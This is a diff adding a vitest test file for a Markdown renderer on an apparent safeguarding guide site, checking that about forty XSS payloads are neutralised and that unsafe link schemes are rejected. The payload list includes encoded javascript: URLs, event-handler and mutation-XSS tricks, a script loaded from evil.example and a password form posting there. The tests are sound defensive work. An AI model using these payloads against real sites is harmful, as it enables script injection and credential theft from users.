@@ -1,0 +1,143 @@
+import { describe, expect, it } from "vitest";
+import { markdownToPlainText, renderGuideMarkdown, safeHref } from "~/lib/markdown.server";
+
+/** Things a careless paste or a hostile writer might put in a page. */
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](javascript&#58;alert(1))",
+  "[x](javascript&colon;alert(1))",
+  "[x](java&Tab;script:alert(1))",
+  "[x](&#106;avascript:alert(1))",
+  "[x](&#x6A;avascript:alert(1))",
+  "[x](java%0ascript:alert(1))",
+  "[x]( javascript:alert(1))",
+  "[x](<javascript:alert(1)>)",
+  '<a href="  javascript:alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[x](vbscript:msgbox(1))",
+  "[x](//evil.example)",
+  "<javascript:alert(1)>",
+  "[x][ref]\n\n[ref]: javascript:alert(1)",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<iframe src=https://evil.example></iframe>",
+  "<object data=x></object><embed src=x>",
+  "<style>body { display: none }</style>",
+  '<p style="position:fixed">x</p>',
+  "<form action=https://evil.example><input name=password><button>Go</button></form>",
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<math href="javascript:alert(1)">x</math>',
+  '<div onclick="alert(1)" onmouseover=alert(2)>hover</div>',
+  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  "<base href=https://evil.example/>",
+  "<!-- <script>alert(1)</script> -->",
+  "**bold <img src=x onerror=alert(1)>**",
+  "| a |\n|---|\n| <script>alert(1)</script> |",
+  "> **What to do now**\n> <iframe src=x></iframe> [x](javascript:alert(1))",
+  "## <img src=x onerror=alert(1)> heading",
+  '![x" onerror="alert(1)](https://example.org/x.png)',
+  "```html\n<script>alert(1)</script>\n```",
+];
+
+const tagsIn = (html: string) => html.match(/<[^>]*>/g) ?? [];
+
+describe("the guide's Markdown is safe whatever is typed", () => {
+  for (const input of HOSTILE) {
+    it(`neutralises ${JSON.stringify(input).slice(0, 70)}`, () => {
+      const { html } = renderGuideMarkdown(input);
+      expect(html).not.toMatch(/<script/i);
+      expect(html).not.toMatch(/<(iframe|object|embed|style|form|input|button|svg|math|meta|base|img)\b/i);
+      for (const tag of tagsIn(html)) {
+        expect(tag).not.toMatch(/\son\w+\s*=/i);
+        expect(tag).not.toMatch(/\sstyle\s*=/i);
+        expect(tag).not.toMatch(/\starget\s*=/i);
+        expect(tag).not.toMatch(/(javascript|vbscript|data)\s*(:|&#0*58;?|&#x0*3a;?|&colon;)/i);
+      }
+      for (const [, href] of tagsIn(html).join(" ").matchAll(/href="([^"]*)"/g)) {
+        expect(href).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#)/);
+      }
+    });
+  }
+
+  it("only lets through web, email, phone and same-site links", () => {
+    expect(safeHref("https://www.childline.org.uk")).toBe("https://www.childline.org.uk");
+    expect(safeHref("tel:08001111")).toBe("tel:08001111");
+    expect(safeHref("/guide/help")).toBe("/guide/help");
+    expect(safeHref("#who-to-call")).toBe("#who-to-call");
+    for (const bad of ["javascript:x", " JAVASCRIPT:x", "java\nscript:x", "jav&#x09;ascript:x", "javascript&colon;x", "data:x", "//evil.example", "file:///etc"]) {
+      expect(safeHref(bad)).toBeNull();
+    }
+  });
+});
+
+describe("ordinary Markdown renders as readers expect", () => {
+  const page = [
+    "# Becomes a second-level heading",
+    "",
+    "Some **bold** and _stressed_ words, and a [link to Childline](https://www.childline.org.uk) and [another page](/guide/help).",
+    "",
+    "## Who to call",
+    "",
+    "- Childline: 0800 1111",
+    "- Police: 999 in an emergency",
+    "",
+    "Table: Numbers to keep",
+    "",
+    "| Service | Number |",
+    "| --- | --- |",
+    "| Childline | 0800 1111 |",
+    "| Police, not urgent | 101 |",
+    "",
+    "> **What to do now:** make sure every pupil knows these numbers.",
+    "> - Put them on the wall",
+    "",
+    "## Who to call",
+    "",
+    "> A quotation stays a quotation.",
+  ].join("\n");
+
+  it("gives headings ids, and lists the main ones for 'on this page'", () => {
+    const { html, headings } = renderGuideMarkdown(page);
+    expect(html).toContain('<h2 id="becomes-a-second-level-heading">');
+    expect(html).not.toContain("<h1");
+    expect(headings).toEqual([
+      { id: "becomes-a-second-level-heading", text: "Becomes a second-level heading" },
+      { id: "who-to-call", text: "Who to call" },
+      { id: "who-to-call-2", text: "Who to call" },
+    ]);
+  });
+
+  it("renders lists, tables with a caption and header cells, and call-out boxes", () => {
+    const { html } = renderGuideMarkdown(page);
+    expect(html).toContain("<li>Childline: 0800 1111</li>");
+    expect(html).toContain("<caption>Numbers to keep</caption>");
+    expect(html).toContain('<th scope="col">Service</th>');
+    expect(html).toContain("<td>0800 1111</td>");
+    expect(html).not.toContain("Table: Numbers to keep");
+    expect(html).toMatch(/<div class="guide-callout"><p class="guide-callout-title"><strong>What to do now<\/strong><\/p>\s*<p>make sure every pupil knows these numbers.<\/p>/);
+    expect(html).toContain("<blockquote>");
+  });
+
+  it("marks external links noopener noreferrer and leaves our own alone", () => {
+    const { html } = renderGuideMarkdown(page);
+    expect(html).toContain('<a href="https://www.childline.org.uk" rel="noopener noreferrer">link to Childline</a>');
+    expect(html).toContain('<a href="/guide/help">another page</a>');
+  });
+
+  it("shows raw HTML as the text that was typed", () => {
+    expect(renderGuideMarkdown("Press <b>here</b>").html).toBe("<p>Press &lt;b&gt;here&lt;/b&gt;</p>\n");
+  });
+
+  it("gives the search index the words without the Markdown", () => {
+    const text = markdownToPlainText(page);
+    expect(text).toContain("Some bold and stressed words, and a link to Childline and another page.");
+    expect(text).toContain("Childline\n0800 1111");
+    expect(text).not.toMatch(/[#*|>]/);
+  });
+});
